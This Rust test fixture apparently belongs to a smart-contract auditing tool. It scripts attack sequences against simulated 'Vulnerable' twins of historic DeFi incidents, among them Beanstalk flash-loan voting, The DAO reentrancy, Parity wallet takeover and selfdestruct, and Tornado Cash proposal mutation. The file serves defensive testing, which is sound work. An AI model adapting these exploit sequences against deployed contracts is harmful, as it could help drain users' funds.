//! Attacks on the crate's own contracts, written by hand with more calls and larger values than they need: what shrinking
//! and exporting are tried on, whatever the search finds.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    dead_code,
    reason = "fixtures of several tests"
)]

use std::path::{Path, PathBuf};
use std::sync::Arc;

use alloy_dyn_abi::DynSolValue as Value;
use alloy_primitives::{Address, B256, U256};
use daotwin_audit::world::{Scenario, World};
use daotwin_audit::{Confidence, Effect, Finding, Impact, Step, Wait, artifact};
use daotwin_core::Limits;

pub(crate) const DAY: u64 = 86_400;

pub(crate) fn contracts() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("contracts")
}

/// The world of a case, with the contracts of one of its twins.
pub(crate) fn world(case: &str, twin: &str) -> World {
    let folder = contracts().join(case);
    let scenario = Scenario::open(&folder.join("audit.toml"), &Limits::default()).unwrap();
    let artifacts = artifact::read(&folder.join(format!("{twin}.json")), &Limits::default()).unwrap();
    World::deploy(&scenario, &artifacts).unwrap()
}

fn whole(text: &str) -> U256 {
    let (digits, zeros) = text.split_once('e').unwrap_or((text, "0"));
    digits.parse::<U256>().unwrap() * U256::from(10).pow(zeros.parse::<U256>().unwrap())
}

fn uint(text: &str) -> Value {
    Value::Uint(whole(text), 256)
}

struct Writer {
    world: World,
    steps: Vec<Step>,
    sender: Address,
}

impl Writer {
    fn new(case: &str) -> Self {
        let world = world(case, "Vulnerable");
        let sender = world.actor("attacker").unwrap().address;
        Self { world, steps: Vec::new(), sender }
    }

    fn address(&self, name: &str) -> Value {
        Value::Address(self.at(name))
    }

    fn at(&self, name: &str) -> Address {
        match self.world.actor(name) {
            Ok(actor) => actor.address,
            Err(_) => self.world.contract(name).unwrap().address,
        }
    }

    /// A call: `contract.function`, or a contract that ether is sent to. Functions of any contract of the world are taken,
    /// as a proxy's.
    fn call(&self, what: &str, arguments: Vec<Value>) -> Step {
        let (to, name) = what.split_once('.').map_or((what, None), |(to, name)| (to, Some(name)));
        let function = name.map(|name| {
            let deployed = self.world.contract(to).unwrap();
            let own = deployed.functions();
            let mut all =
                own.chain(self.world.contracts.iter().flat_map(daotwin_audit::world::Deployed::functions));
            let found =
                all.find(|callable| callable.name() == name && callable.inputs.len() == arguments.len());
            Arc::new(found.unwrap().clone())
        });
        let to = self.at(to);
        let wait = Wait::default();
        Step { sender: self.sender, to, function, arguments, value: U256::ZERO, wait, inner: Vec::new() }
    }

    fn push(&mut self, what: &str, arguments: Vec<Value>) -> &mut Step {
        let step = self.call(what, arguments);
        self.steps.push(step);
        self.steps.last_mut().unwrap()
    }

    fn finding(
        self,
        oracle: &'static str,
        contract: &str,
        title: &str,
        effects: Vec<Effect>,
    ) -> (World, Finding) {
        let last = self.steps.last().and_then(|step| step.function.clone());
        let finding = Finding {
            oracle,
            impact: Impact::Critical,
            confidence: Confidence::High,
            contract: contract.to_owned(),
            function: last.map(|callable| callable.signature()).unwrap_or_default(),
            title: title.to_owned(),
            rule: "who has no right to it must not get it".to_owned(),
            steps: self.steps,
            effects,
            executions: 1,
        };
        (self.world, finding)
    }
}

fn beanstalk() -> (World, Finding) {
    let mut it = Writer::new("incidents/beanstalk");
    let attacker = it.address("attacker");
    let all = Value::Uint(U256::MAX, 256);
    it.push("bean.approve", vec![it.address("silo"), all.clone()]);
    it.push("silo.deposit", vec![uint("500e18")]);
    it.push("bean.approve", vec![it.address("whale"), uint("5")]);
    // The bean's code run in the place of the silo: an allowance in the silo's own storage.
    let pay = it.call("bean.approve", vec![attacker.clone(), uint("9")]).data().to_vec();
    it.push("silo.propose", vec![it.address("bean"), Value::Bytes(pay)]);
    let inner = vec![
        it.call("bean.approve", vec![it.address("silo"), all.clone()]),
        it.call("silo.deposit", vec![uint("800000e18")]),
        it.call("bean.balanceOf", vec![attacker.clone()]),
        it.call("silo.vote", vec![uint("1")]),
        it.call("silo.emergencyCommit", vec![uint("1")]),
        it.call("silo.withdraw", vec![uint("800000e18")]),
        it.call("bean.approve", vec![it.address("lender"), all]),
    ];
    let step = it.push(
        "lender.flashLoan",
        vec![attacker, it.address("bean"), uint("800000e18"), Value::Bytes(vec![7; 40])],
    );
    step.wait = Wait::seconds(3 * DAY + 17);
    step.inner = inner;
    // The proposal was committed: word 5 of its entry, which is the second of six words each.
    let silo = it.at("silo");
    let proposals = U256::from_be_bytes(alloy_primitives::keccak256(B256::from(U256::from(5))).0);
    let slot = proposals + U256::from(11);
    let effects = vec![Effect::Stored { account: silo, slot, value: U256::from(1) }];
    it.finding("flash-vote", "silo", "a loan of a moment is a supermajority", effects)
}

fn parity_july() -> (World, Finding) {
    let mut it = Writer::new("incidents/parity-july");
    let attacker = it.address("attacker");
    it.push("library.initWallet", vec![Value::Array(vec![attacker.clone()]), uint("1")]);
    it.push(
        "wallet.initWallet",
        vec![
            Value::Array(vec![it.address("treasurer"), attacker.clone(), it.address("deployer")]),
            uint("1"),
        ],
    )
    .wait = Wait::seconds(5 * DAY);
    it.push("wallet.execute", vec![attacker, uint("70e18"), Value::Bytes(vec![1, 2, 3, 4, 5]), uint("77")]);
    let effects = vec![Effect::EtherGained { account: it.sender, least: U256::from(1) }];
    it.finding("ownership-takeover", "wallet", "anyone becomes an owner and empties the wallet", effects)
}

fn parity_november() -> (World, Finding) {
    let mut it = Writer::new("incidents/parity-november");
    let attacker = it.address("attacker");
    it.push(
        "library.initWallet",
        vec![Value::Array(vec![attacker.clone(), it.address("treasurer")]), uint("1")],
    );
    it.push("library.kill", vec![attacker]);
    let effects = vec![Effect::Gone { account: it.at("library") }];
    it.finding("unprotected-selfdestruct", "library", "anyone destroys the library of all wallets", effects)
}

fn compound() -> (World, Finding) {
    let mut it = Writer::new("incidents/compound-62");
    it.push("tusd.approve", vec![it.address("supplier"), uint("3")]);
    it.push("comptroller.redeem", vec![uint("3e18")]).wait = Wait::blocks(40);
    it.push("comptroller.claimComp", vec![]);
    it.push("comptroller.redeem", vec![uint("10e18")]);
    let (token, account) = (it.at("comp"), it.sender);
    let effects = vec![Effect::TokenGained { token, account, least: U256::from(1) }];
    it.finding("attacker-profit", "comptroller", "new suppliers are paid from index zero", effects)
}

fn force() -> (World, Finding) {
    let mut it = Writer::new("incidents/force-dao");
    it.push("vault.deposit", vec![uint("400000e18")]).wait = Wait::seconds(DAY);
    it.push("vault.withdraw", vec![uint("400000e18")]);
    let (token, account) = (it.at("token"), it.sender);
    let effects = vec![Effect::TokenGained { token, account, least: U256::from(1) }];
    it.finding("unchecked-call", "vault", "shares are minted for tokens that never came", effects)
}

fn build() -> (World, Finding) {
    let mut it = Writer::new("incidents/build-finance");
    let attacker = it.address("attacker");
    let approve =
        it.call("token.approve", vec![attacker.clone(), Value::Uint(U256::MAX, 256)]).data().to_vec();
    let decoy = it.call("token.approve", vec![it.address("holder"), uint("1")]).data().to_vec();
    it.push("dao.propose", vec![it.address("token"), uint("0"), Value::Bytes(decoy)]);
    it.push("dao.propose", vec![it.address("token"), uint("0"), Value::Bytes(approve.clone())]);
    it.push("token.approve", vec![it.address("dao"), uint("3000e18")]);
    it.push("dao.vote", vec![uint("1"), Value::Bool(true), uint("3000e18")]);
    it.push("dao.execute", vec![uint("1"), it.address("token"), uint("0"), Value::Bytes(approve)]).wait =
        Wait::seconds(9 * DAY);
    it.push("token.transferFrom", vec![it.address("dao"), attacker, uint("43000e18")]);
    let (token, account) = (it.at("token"), it.sender);
    let effects = vec![Effect::TokenGained { token, account, least: whole("40000e18") }];
    it.finding("quorum-bypass", "dao", "a proposal passes while nobody looks", effects)
}

fn the_dao() -> (World, Finding) {
    let mut it = Writer::new("incidents/the-dao");
    it.push("dao.createTokens", vec![]).value = whole("90e18");
    let again = it.call("dao.splitDao", vec![]);
    let step = it.push("dao.splitDao", vec![]);
    step.inner = vec![again.clone(), again.clone(), again];
    it.push("child.withdraw", vec![]).wait = Wait::seconds(60);
    let effects = vec![Effect::EtherGained { account: it.sender, least: U256::from(1) }];
    it.finding("reentrancy", "dao", "who is paid while leaving leaves again", effects)
}

fn tornado() -> (World, Finding) {
    let mut it = Writer::new("incidents/tornado-cash");
    // The copy of the proposal, made in the deployment, has the template's functions.
    let copy = copy_of(&it.world, it.at("factory"));
    let mut kill = it.call("template.emergencyStop", vec![]);
    kill.to = copy;
    kill.wait = Wait::seconds(5 * DAY);
    it.steps.push(kill);
    it.push("factory.deploy", vec![uint("20"), it.address("whale")]);
    it.push("dao.execute", vec![uint("0")]);
    // That the proposal ran is the one word that changes in the governor's storage.
    let account = it.at("dao");
    let mut machine = daotwin_audit::chain::Machine::new(it.world.fork);
    let last = daotwin_audit::play(&mut machine, &it.world.state, &it.steps).unwrap().expect("all go well");
    let mut changed = last.slots(account);
    changed.retain(|(slot, value)| it.world.state.storage(account, *slot) != *value);
    let stored = changed.into_iter().map(|(slot, value)| Effect::Stored { account, slot, value });
    let effects = stored.chain([Effect::Gone { account: copy }]).collect();
    it.finding("proposal-mutation", "dao", "other code runs than was voted on", effects)
}

/// Where the factory puts the copy with salt 20.
fn copy_of(world: &World, factory: Address) -> Address {
    let mut data = alloy_primitives::keccak256("addressOf(uint256)")[..4].to_vec();
    data.extend_from_slice(B256::from(U256::from(20)).as_slice());
    let mut machine = daotwin_audit::chain::Machine::new(world.fork);
    let call = daotwin_audit::chain::Transaction {
        sender: Address::ZERO,
        to: Some(factory),
        value: U256::ZERO,
        data: data.into(),
    };
    let outcome = machine.run(&world.state, &call).unwrap();
    Address::from_word(B256::from_slice(&outcome.output))
}

/// All, by case.
pub(crate) fn all() -> Vec<(&'static str, World, Finding)> {
    let of = |case, (world, finding)| (case, world, finding);
    vec![
        of("incidents/beanstalk", beanstalk()),
        of("incidents/build-finance", build()),
        of("incidents/compound-62", compound()),
        of("incidents/force-dao", force()),
        of("incidents/parity-july", parity_july()),
        of("incidents/parity-november", parity_november()),
        of("incidents/the-dao", the_dao()),
        of("incidents/tornado-cash", tornado()),
    ]
}

/// Every case that has two twins, by name.
pub(crate) fn cases() -> Vec<String> {
    let below = |folder: &Path| -> Vec<PathBuf> {
        let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
        entries.filter(|path| path.is_dir()).collect()
    };
    let cases = below(&contracts()).into_iter().flat_map(|group| below(&group));
    let twins =
        cases.filter(|case| case.join("Vulnerable.json").is_file() && case.join("Fixed.json").is_file());
    let mut names: Vec<String> =
        twins.map(|case| case.strip_prefix(contracts()).unwrap().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}
